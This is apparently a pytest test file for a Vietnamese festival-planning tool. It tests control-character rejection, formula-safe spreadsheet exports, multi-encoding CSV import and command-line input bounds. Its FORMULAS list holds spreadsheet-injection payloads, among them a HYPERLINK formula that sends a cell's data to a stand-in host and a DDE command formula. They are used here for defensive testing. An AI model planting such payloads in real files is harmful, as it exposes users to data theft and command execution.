"""Hostile input is refused at the door, and exports are safe to open (issue 14, items 7 and 8).

Control characters are refused in every text field the services take (a code naming the field, in
Vietnamese and English); spreadsheet exports never write a formula; the CSV reader copes with the
files Vietnamese offices save (Windows-1258, UTF-16, tab- or semicolon-separated) and refuses broken
ones with a line number instead of a traceback; the command line bounds what it takes.
"""

from __future__ import annotations

import codecs
import datetime as dt
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import func, select

from festival_planner.cli import main
from festival_planner.domain.errors import DatabaseError, ValidationError
from festival_planner.domain.models import Base
from festival_planner.services import (
    budget,
    campaigns,
    checklist_templates,
    checklists,
    exports,
    invitations,
    leaders,
    programme,
    sites,
)
from festival_planner.services.checklist_templates import TemplateItemSpec
from festival_planner.services.imports import import_leaders, read_csv_bytes, read_table
from festival_planner.services.plan_import import import_plan
from festival_planner.store.database import database_url

COMMUNE = "23377"  # Xã Bờ Y (Quảng Ngãi)
FORMULAS = ['=HYPERLINK("http://example.invalid/?d="&C2,"Xem")', "=cmd|' /C calc'!A0", "=WEBSERVICE(\"x\")",
            "+1+2", "-3+4", "@SUM(A1)", "\t=1+1", "\r=1+1"]


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


def table_counts(database: Any) -> dict[str, int]:
    with database.session() as session:
        return {t.name: session.scalar(select(func.count()).select_from(t)) for t in Base.metadata.sorted_tables}


# --- 8. control characters refused at entry in every text field ---------------------------------

@pytest.fixture
def planned(database: Any) -> dict[str, Any]:
    """A campaign with a site, a leader, a template and an item of each kind, committed."""
    with database.transaction() as session:
        campaign = campaigns.create_campaign(session, 2026)
        site = sites.add_site(session, campaign.id, COMMUNE, dt.date(2026, 8, 10))
        leader = leaders.add_leader(session, "Nguyễn Văn An")
        other = leaders.add_leader(session, "Trần Thị Bình")
        invitation = invitations.invite(session, site.id, other.id, "member")
        template = checklist_templates.create_template(session, "Mẫu thử")
        item = checklists.add_item(session, site.id, "Sân khấu")
        line = budget.add_budget_line(session, site.id, "stage", 1000)
    return {"campaign": campaign.id, "site": site.id, "leader": leader.id, "invitation": invitation.id,
            "template": template.id, "item": item.id, "line": line.id, "site_version": site.version,
            "leader_version": leader.version, "item_version": item.version, "line_version": line.version,
            "invitation_version": invitation.version}


CALLS: dict[str, Callable[[Any, dict[str, Any], str], object]] = {
    "leader.full_name": lambda db, p, v: leaders.add_leader(db, v),
    "leader.title": lambda db, p, v: leaders.add_leader(db, "Lê Văn C", title=v),
    "leader.organisation": lambda db, p, v: leaders.add_leader(db, "Lê Văn C", organisation=v),
    "leader.phone": lambda db, p, v: leaders.add_leader(db, "Lê Văn C", phone=v),
    "leader.notes": lambda db, p, v: leaders.add_leader(db, "Lê Văn C", notes=v),
    "leader.update_title": lambda db, p, v: leaders.update_leader(db, p["leader"], p["leader_version"], title=v),
    "site.venue": lambda db, p, v: sites.update_site(db, p["site"], p["site_version"], venue=v),
    "site.host_unit": lambda db, p, v: sites.update_site(db, p["site"], p["site_version"], host_unit=v),
    "site.contact_name": lambda db, p, v: sites.update_site(db, p["site"], p["site_version"], contact_name=v),
    "site.contact_phone": lambda db, p, v: sites.update_site(db, p["site"], p["site_version"], contact_phone=v),
    "site.notes": lambda db, p, v: sites.update_site(db, p["site"], p["site_version"], notes=v),
    "site.add_venue": lambda db, p, v: sites.add_site(db, p["campaign"], "00832", dt.date(2026, 8, 11),
                                                          venue=v),
    "campaign.name": lambda db, p, v: campaigns.create_campaign(db, 2027, name=v),
    "invitation.note": lambda db, p, v: invitations.invite(db, p["site"], p["leader"], "head", note=v),
    "invitation.override_reason": lambda db, p, v: invitations.invite(db, p["site"], p["leader"], "head",
                                                                          override_reason=v),
    "invitation.update_note": lambda db, p, v: invitations.update_invitation(db, p["invitation"],
                                                                                 p["invitation_version"], note=v),
    "checklist.title": lambda db, p, v: checklists.add_item(db, p["site"], v),
    "checklist.owner": lambda db, p, v: checklists.add_item(db, p["site"], "Âm thanh", owner=v),
    "checklist.category": lambda db, p, v: checklists.add_item(db, p["site"], "Âm thanh", category=v),
    "checklist.note": lambda db, p, v: checklists.update_item(db, p["item"], p["item_version"], note=v),
    "task.title": lambda db, p, v: checklists.add_campaign_task(db, p["campaign"], v),
    "template.name": lambda db, p, v: checklist_templates.create_template(db, v),
    "template.description": lambda db, p, v: checklist_templates.create_template(db, "Mẫu 2", description=v),
    "template_item.title": lambda db, p, v: checklist_templates.add_template_item(
            db, p["template"], TemplateItemSpec(v, "Chung", 3)),
    "programme.title": lambda db, p, v: programme.add_programme_item(db, p["site"], dt.time(8), 10, v),
    "programme.responsible": lambda db, p, v: programme.add_programme_item(db, p["site"], dt.time(8), 10,
                                                                               "Khai mạc", responsible=v),
    "budget.description": lambda db, p, v: budget.add_budget_line(db, p["site"], "sound", 5, description=v),
    "budget.note": lambda db, p, v: budget.update_budget_line(db, p["line"], p["line_version"], note=v),
    "commendation.recipient": lambda db, p, v: budget.add_commendation(db, p["site"], "collective", v, "Bằng khen"),
    "commendation.award": lambda db, p, v: budget.add_commendation(db, p["site"], "collective", "Thôn 1", v),
    "gift.recipient": lambda db, p, v: budget.add_gift(db, p["site"], "household", v, "Quà"),
    "gift.gift": lambda db, p, v: budget.add_gift(db, p["site"], "household", "Hộ A", v),
}
BAD = ["A\x00B", "A\x01B", "A\x07B", "A\x1bB", "A\x7fB", "A\x85B", "A\ud800B", "A\uffffB"]


@pytest.mark.parametrize("field", sorted(CALLS))
def test_control_characters_are_refused_in_every_text_field(database, planned, field: str) -> None:
    before = table_counts(database)
    for bad in (BAD if field == "leader.full_name" else BAD[:2]):
        with database.transaction() as session, pytest.raises(ValidationError) as caught:
            CALLS[field](session, planned, bad)
        assert caught.value.code == "text_control_character", (field, caught.value.code)
        assert f"U+{ord(bad[1]):04X}" in caught.value.text("vi")
        label_vi, label_en = caught.value.text("vi"), caught.value.text("en")
        assert "ký tự điều khiển" in label_vi and "control character" in label_en
        assert not label_vi.startswith(("text_field", "field", "leader_field", "checklist"))  # names the field
    assert table_counts(database) == before


def test_multi_line_fields_keep_line_breaks_single_line_fields_do_not(database, planned) -> None:
    with database.transaction() as session:
        row = sites.update_site(session, planned["site"], planned["site_version"], notes="a\r\nb\tc",
                                venue="Nhà văn hóa\nxã")
    assert (row.notes, row.venue) == ("a\nb\tc", "Nhà văn hóa xã")


def test_the_field_is_named_in_both_languages() -> None:
    from festival_planner.domain.entry import clean_text

    with pytest.raises(ValidationError) as caught:
        clean_text("a\x00", "venue", 300, field_key="field.venue")
    assert caught.value.text("vi").startswith("Địa điểm chứa ký tự điều khiển")
    assert caught.value.text("en").startswith("Venue contains a control character") or \
        "Venue" in caught.value.text("en")
    with pytest.raises(ValidationError) as caught:
        clean_text("x" * 11, "number", 10, field_key="print_field.number")
    assert caught.value.text("vi") == "Số văn bản dài quá 10 ký tự."


def test_cli_leaders_add_and_sites_edit_refuse_control_characters(capsys, database, planned, db_path) -> None:
    database.close()
    code, out, err = run(capsys, "leaders", "add", "--db", str(db_path), "--name", "Nguyễn\x07 Văn B")
    assert code != 0 and "Traceback" not in err and "U+0007" in err and len(err.strip().splitlines()) == 1
    code, out, err = run(capsys, "sites", "edit", "--db", str(db_path), "--id", str(planned["site"]),
                         "--venue", "Nhà\x00văn hóa")
    assert code != 0 and "U+0000" in err and len(err.strip().splitlines()) == 1
    code, out, err = run(capsys, "leaders", "export", "--db", str(db_path), str(db_path.parent / "l.xlsx"))
    assert code == 0, err


def test_invitation_note_and_override_reason_are_bounded(capsys, database, planned, db_path) -> None:
    database.close()
    code, _, err = run(capsys, "invite", "--db", str(db_path), "--site", str(planned["site"]), "--leader",
                       str(planned["leader"]), "--role", "head", "--note", "x" * 50_000)
    assert code != 0 and "2000" in err and "Traceback" not in err
    code, _, err = run(capsys, "invite", "--db", str(db_path), "--site", str(planned["site"]), "--leader",
                       str(planned["leader"]), "--role", "head", "--override-reason", "x" * 50_000)
    assert code != 0 and "1000" in err


def test_print_number_is_bounded(capsys, database, planned, db_path, tmp_path) -> None:
    database.close()
    target = tmp_path / "out.pdf"
    code, _, err = run(capsys, "print", "site", "--db", str(db_path), "--site", str(planned["site"]),
                       "--pdf", str(target), "--number", "9" * 5000)
    assert code != 0 and "60" in err and not target.exists()


# --- 7. exports are safe to open --------------------------------------------------------------

def _sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as book:
        return book.read("xl/worksheets/sheet1.xml").decode("utf-8")


def test_leaders_export_writes_formula_like_names_as_text_and_imports_them_back(capsys, database, db_path,
                                                                                tmp_path) -> None:
    with database.transaction() as session:
        for n, name in enumerate(FORMULAS[:6]):
            leaders.add_leader(session, name, title=f"-{n} Phó", phone="+84 912 345 678", precedence_rank=n)
    database.close()
    target = tmp_path / "lanh-dao.xlsx"
    code, _, err = run(capsys, "leaders", "export", "--db", str(db_path), str(target))
    assert code == 0, err
    xml = _sheet_xml(target)
    assert "<f>" not in xml and "<f " not in xml
    sheet = load_workbook(target).active
    names = [sheet.cell(row=r, column=2) for r in range(2, 8)]
    assert all(c.data_type == "s" and c.value.startswith("'") for c in names)
    assert sheet.cell(row=2, column=1).data_type == "n"  # numbers stay numbers
    # re-import: the quote is taken off, the directory is unchanged
    again = tmp_path / "db2.sqlite"
    from festival_planner.store.database import open_database
    fresh = open_database(again)
    try:
        with fresh.transaction() as session:
            result = import_leaders(session, target)
        assert result.ok, result.problems
        assert sorted(r.full_name for r in result.created) == sorted(FORMULAS[:6])
        assert {r.phone for r in result.created} == {"+84 912 345 678"}
    finally:
        fresh.close()


def test_campaign_and_template_exports_have_no_formulas(database, planned, tmp_path) -> None:
    with database.transaction() as session:
        sites.update_site(session, planned["site"], planned["site_version"], venue=FORMULAS[1])
        leaders.update_leader(session, planned["leader"], planned["leader_version"], title=FORMULAS[0])
        template = checklist_templates.create_template(session, "=1+1 mẫu", description="@x", items=[
            TemplateItemSpec("=HYPERLINK(\"x\")", "-nhóm", 5, "+84")])
    with database.session() as session:
        exports.export_campaign_xlsx(session, planned["campaign"], tmp_path / "c.xlsx")
        checklist_templates.export_template_xlsx(session, template.id, tmp_path / "t.xlsx")
    for name in ("c.xlsx", "t.xlsx"):
        assert "<f>" not in _sheet_xml(tmp_path / name), name
    with database.transaction() as session:
        back = checklist_templates.import_template_xlsx(session, tmp_path / "t.xlsx", name="Bản sao")
    assert [(i.title, i.category, i.default_owner) for i in back.items] == [("=HYPERLINK(\"x\")", "-nhóm", "+84")]
    assert back.description == "@x"


def test_a_workbook_formula_is_imported_as_its_text_never_evaluated(database, tmp_path) -> None:
    book = Workbook()
    sheet = book.active
    sheet.append(["Họ và tên", "Thứ tự"])
    sheet.append(["=CONCAT(\"Nguyễn \",\"Văn A\")", -5])
    book.save(tmp_path / "f.xlsx")
    table = read_table(tmp_path / "f.xlsx")
    assert table.rows[0][1] == ("=CONCAT(\"Nguyễn \",\"Văn A\")", -5)


# --- 8. the CSV reader: encodings, separators, broken files --------------------------------------

HEADER = "Họ và tên,Chức vụ,Thứ tự\n"
ROWS = "Nguyễn Văn Ất,Phó Thủ tướng,3\nĐặng Thị Ưng,Thứ trưởng Bộ Công an,4\n"
EXPECTED = [("Nguyễn Văn Ất", "Phó Thủ tướng", "3"), ("Đặng Thị Ưng", "Thứ trưởng Bộ Công an", "4")]


def _cp1258(text: str) -> bytes:
    """What Excel on a Vietnamese Windows writes: letters with their base marks, the tone mark apart."""
    import unicodedata

    out = bytearray()
    for char in unicodedata.normalize("NFC", text):
        try:
            out += char.encode("cp1258")
        except UnicodeEncodeError:
            marks = unicodedata.normalize("NFD", char)
            tone = next(m for m in marks if m in "\u0300\u0301\u0303\u0309\u0323")
            out += unicodedata.normalize("NFC", marks.replace(tone, "")).encode("cp1258") + tone.encode("cp1258")
    return bytes(out)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "cp1258", "latin-1-ascii"])
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_office_csv_files_are_read(encoding: str, delimiter: str) -> None:
    text = (HEADER + ROWS).replace(",", delimiter)
    expected = EXPECTED
    if encoding == "latin-1-ascii":
        text = "Họ và tên,Chức vụ,Thứ tự\nJosé Müller,Cố vấn,3\n".replace(",", delimiter)
        text = text.replace("Họ và tên", "Ho va ten").replace("Chức vụ", "Chuc vu").replace("Thứ tự", "Thu tu")
        text = text.replace("Cố vấn", "Conseiller")
        data = text.encode("latin-1")
        expected = [("José Müller", "Conseiller", "3")]
    elif encoding == "cp1258":
        data = _cp1258(text)
        with pytest.raises(UnicodeDecodeError):
            data.decode("utf-8")
    else:
        data = text.encode(encoding)
    table = read_csv_bytes(data, "x.csv")
    assert len(table.headers) == 3
    assert [tuple(cells) for _, cells in table.rows] == expected


def test_utf16_with_bom_tab_separated_is_imported(database, tmp_path) -> None:
    path = tmp_path / "unicode.csv"
    path.write_bytes(codecs.BOM_UTF16_LE + (HEADER + ROWS).replace(",", "\t").encode("utf-16-le"))
    with database.transaction() as session:
        result = import_leaders(session, path)
    assert result.ok and [r.full_name for r in result.created] == ["Nguyễn Văn Ất", "Đặng Thị Ưng"]


def test_an_unbalanced_quote_is_refused_with_its_line(database, tmp_path) -> None:
    path = tmp_path / "q.csv"
    path.write_text(HEADER + "Lê Văn A,x,1\n\"Nguyễn Văn B,y,2\nTrần C,z,3\nPhạm D,w,4\n", encoding="utf-8")
    with pytest.raises(ValidationError) as caught:
        read_table(path)
    assert caught.value.code == "import_unbalanced_quote" and caught.value.params["line"] == 3
    assert "dòng 3" in caught.value.text("vi") and "line 3" in caught.value.text("en")


def test_a_closed_multi_line_cell_and_a_stray_quote_are_still_read() -> None:
    table = read_csv_bytes(HEADER.encode() + b'"Le Van A",x,1\n"Multi\nline",y,2\nab"c,z,3\n', "x.csv")
    assert [cells[0] for _, cells in table.rows] == ["Le Van A", "Multi\nline", 'ab"c']


def test_a_huge_cell_is_refused_cleanly(capsys, database, db_path, tmp_path) -> None:
    database.close()
    path = tmp_path / "big.csv"
    path.write_text(HEADER + "Lê Văn A,x,1\n\"" + "x" * 131_073 + "\",y,2\n", encoding="utf-8")
    code, _, err = run(capsys, "leaders", "import", "--db", str(db_path), str(path))
    assert code != 0 and "Traceback" not in err and "131072" in err and "3" in err


@pytest.mark.parametrize("rank", ["1e400", "inf", "-inf", "nan", "1e20"])
def test_a_rank_out_of_any_range_is_a_row_problem(database, rank: str) -> None:
    table = read_csv_bytes(f"{HEADER}Lê Văn A,x,{rank}\n".encode(), "x.csv")
    with database.transaction() as session:
        result = import_leaders(session, table)
    assert not result.ok and result.problems[0].code in ("import_bad_rank", "bad_precedence_rank")


def test_control_characters_in_a_csv_are_a_row_problem(database) -> None:
    before = table_counts(database)
    table = read_csv_bytes(f"{HEADER}Lê Văn A,x,1\nNguyễn\x01 B,y,2\n".encode(), "x.csv")
    with database.transaction() as session:
        result = import_leaders(session, table)
    assert not result.ok and [(p.row, p.code) for p in result.problems] == [(3, "text_control_character")]
    assert table_counts(database) == before


# --- 8. the command line's other doors ----------------------------------------------------------

def test_choose_of_a_row_the_file_lacks_is_refused(capsys, database, db_path, tmp_path) -> None:
    database.close()
    path = tmp_path / "plan.csv"
    path.write_text("Ngày,Xã/Phường,Tỉnh/Thành phố\n10/08/2026,Xã Bờ Y,Tỉnh Quảng Ngãi\n", encoding="utf-8")
    code, _, err = run(capsys, "import", "plan", "--db", str(db_path), str(path), "--campaign", "2026",
                       "--choose", "99999=23377")
    assert code != 0 and "99999" in err and "Traceback" not in err


def test_choose_names_a_row_in_the_service(database) -> None:
    table = read_csv_bytes(b"Ngay,Xa,Tinh\n10/08/2026,Xa Bo Y,Quang Ngai\n", "x.csv")
    with database.transaction() as session, pytest.raises(ValidationError) as caught:
        import_plan(session, table, 2026, choose={7: "23377"})
    assert caught.value.code == "choice_row_unknown" and caught.value.params["row"] == 7


@pytest.mark.parametrize("kind", ["missing", "text"])
def test_overview_map_must_be_an_image(capsys, database, planned, db_path, tmp_path, kind: str) -> None:
    database.close()
    image = tmp_path / "map.png"
    if kind == "text":
        image.write_text("not an image", encoding="utf-8")
    target = tmp_path / "overview.pdf"
    code, out, err = run(capsys, "print", "overview", "--db", str(db_path), "--campaign", "2026", "--pdf",
                         str(target), "--map", str(image))
    assert code != 0 and str(image) in err and not target.exists(), (out, err)


@pytest.mark.parametrize("url", ["sqlite://", "sqlite:///:memory:", "sqlite+pysqlite://",
                                 "sqlite:///file:x?mode=memory&uri=true"])
def test_an_in_memory_database_is_refused(capsys, url: str) -> None:
    with pytest.raises(DatabaseError) as caught:
        database_url(url)
    assert caught.value.code == "memory_database"
    code, _, err = run(capsys, "sites", "list", "--db", url, "--campaign", "2026")
    assert code != 0 and ("memory" in err.lower() or "bộ nhớ" in err)


def test_restore_onto_itself_is_refused(capsys, database, db_path) -> None:
    database.close()
    before = db_path.read_bytes()
    code, _, err = run(capsys, "restore", str(db_path), "--db", str(db_path))
    assert code != 0 and "Traceback" not in err and len(err.strip().splitlines()) == 1
    assert db_path.read_bytes() == before


def test_a_control_character_stored_before_the_check_still_exports(database, db_path, tmp_path) -> None:
    with database.transaction() as session:
        leaders.add_leader(session, "Nguyễn Văn An")
        session.execute(Base.metadata.tables["leader"].update().values(full_name="Nguyễn\x01Văn\x00An"))
    with database.session() as session:
        exports.export_leaders_xlsx(session, tmp_path / "old.xlsx")
    assert load_workbook(tmp_path / "old.xlsx").active.cell(row=2, column=2).value == "Nguyễn\ufffdVăn\ufffdAn"
